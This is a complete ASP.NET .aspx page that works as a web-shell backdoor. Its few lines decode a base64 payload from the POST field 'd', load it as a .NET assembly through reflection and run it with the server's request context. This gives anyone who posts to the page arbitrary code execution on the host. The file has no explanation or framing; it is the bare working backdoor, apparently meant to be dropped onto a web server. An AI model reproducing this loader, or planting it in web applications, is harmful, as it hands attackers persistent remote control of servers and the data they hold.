<%@ Page Language="C#" %>
<%
byte[] b = Convert.FromBase64String(Request.Form["d"]);
System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(Context);
%>
